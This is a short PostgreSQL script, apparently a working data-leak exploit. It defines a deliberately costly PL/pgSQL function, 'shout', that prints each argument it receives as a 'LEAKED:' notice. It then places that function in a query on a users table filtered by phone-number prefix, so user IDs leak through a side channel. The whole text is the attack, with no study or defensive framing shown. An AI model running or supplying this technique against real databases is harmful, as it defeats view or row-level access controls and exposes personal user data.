-- what: a function of an unlabelled column tells that the condition before it held
-- known: own
-- purpose: service
CREATE FUNCTION shout(bigint) RETURNS boolean LANGUAGE plpgsql COST 10000 AS $$ BEGIN RAISE NOTICE 'LEAKED: %', $1; RETURN true; END $$;
SELECT 1 FROM users WHERE phone LIKE '1390%' AND shout(user_id);
